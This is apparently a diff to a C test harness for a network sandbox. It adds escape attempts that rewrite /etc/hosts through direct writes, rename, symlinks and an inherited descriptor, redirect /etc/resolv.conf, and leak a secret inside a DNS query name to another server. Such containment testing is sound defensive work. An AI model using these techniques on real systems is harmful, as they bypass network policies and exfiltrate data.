@@ -118,7 +118,96 @@ static int other_server(int argc, char **argv)
 	return got > 0 && memmem(buf, (size_t)got, SECRET, strlen(SECRET)) ? WON : LOST;
 }
 
+/* --- The system's files about names, where the policy lets them be written --- */
+
+/* No host is there, nor a way: it is refused, or the kernel says so. */
+static int reach(void)
+{
+	struct sockaddr_in a = v4("198.51.100.9", 80);
+	unsigned char msg[512];
+
+	for (int i = 0; i < 2; i++) {
+		int fd = socket(AF_INET, SOCK_STREAM, 0);
+
+		if (connect(fd, (struct sockaddr *)&a, sizeof(a)) == 0 || errno != EPERM)
+			return WON;
+		close(fd);
+		/* Once more when the gateway has read it. */
+		usleep(1200000);
+		ask(msg, question(msg, "open.test", 1));
+	}
+	return LOST;
+}
+
+#define HOSTS_LINE "198.51.100.9 open.test\n"
+
+static int hosts_write(int argc, char **argv)
+{
+	return write_file("/etc/hosts", HOSTS_LINE) ? reach() : LOST;
+}
+
+static int hosts_replace(int argc, char **argv)
+{
+	return write_file("/etc/hosts.new", HOSTS_LINE) && rename("/etc/hosts.new", "/etc/hosts") == 0
+		       ? reach()
+		       : LOST;
+}
+
+/* The file is a link to what is here. */
+static int hosts_linked(int argc, char **argv)
+{
+	return write_file("hosts", HOSTS_LINE) ? reach() : LOST;
+}
+
+/* So is this, to a link that is here. */
+static int hosts_relinked(int argc, char **argv)
+{
+	return write_file("mine", HOSTS_LINE) && unlink("hosts") == 0 && symlink("mine", "hosts") == 0
+		       ? reach()
+		       : LOST;
+}
+
+/* Descriptor 3 was handed on. */
+static int hosts_handed(int argc, char **argv)
+{
+	return write(3, HOSTS_LINE, strlen(HOSTS_LINE)) > 0 ? reach() : LOST;
+}
+
+static int has_server(bool written)
+{
+	unsigned char msg[512];
+	struct sockaddr_in a = v4(ELSEWHERE, 53);
+	int fd = socket(AF_INET, SOCK_DGRAM, 0);
+	size_t n = question(msg, SECRET ".open.test", 1);
+
+	if (!written)
+		return LOST;
+	usleep(1200000);
+	sendto(fd, msg, n, 0, (struct sockaddr *)&a, sizeof(a));
+	for (int i = 0; i < 100; i++, usleep(10000))
+		if (there(out("got")))
+			return WON;
+	return LOST;
+}
+
+static int server_write(int argc, char **argv)
+{
+	return has_server(write_file("/etc/resolv.conf", "nameserver " ELSEWHERE "\n"));
+}
+
+static int server_linked(int argc, char **argv)
+{
+	return has_server(write_file("resolv.conf", "nameserver " ELSEWHERE "\n"));
+}
+
 static const struct attack list[] = {
+	{"hosts_write", hosts_write},
+	{"hosts_replace", hosts_replace},
+	{"hosts_linked", hosts_linked},
+	{"hosts_relinked", hosts_relinked},
+	{"hosts_handed", hosts_handed},
+	{"server_write", server_write},
+	{"server_linked", server_linked},
 	{"tunnel", tunnel},
 	{"smuggle", smuggle},
 	{"other_server", other_server},
@@ -161,11 +250,19 @@ static void serve_tcp(int fd)
 	_exit(0);
 }
 
+static void serve_udp(int fd)
+{
+	unsigned char buf[1024];
+
+	for (;;)
+		note(buf, recv(fd, buf, sizeof(buf), 0));
+}
+
 static int serve(void)
 {
 	struct sockaddr_in a = v4("127.0.0.1", 0), b = v4(ELSEWHERE, 53);
 	int tcp = tcp_at(&a), at53 = tcp_at(&b), udp = socket(AF_INET, SOCK_DGRAM, 0);
-	unsigned char buf[1024];
+	int udp53 = socket(AF_INET, SOCK_DGRAM, 0);
 
 	setpgid(0, 0);
 	if (tcp < 0 || bind(udp, (struct sockaddr *)&a, sizeof(a)) < 0)
@@ -176,8 +273,10 @@ static int serve(void)
 		serve_tcp(tcp);
 	if (at53 >= 0 && fork() == 0)
 		serve_tcp(at53);
-	for (;;)
-		note(buf, recv(udp, buf, sizeof(buf), 0));
+	if (bind(udp53, (struct sockaddr *)&b, sizeof(b)) == 0 && fork() == 0)
+		serve_udp(udp53);
+	serve_udp(udp);
+	return 0;
 }
 
 int main(int argc, char **argv)
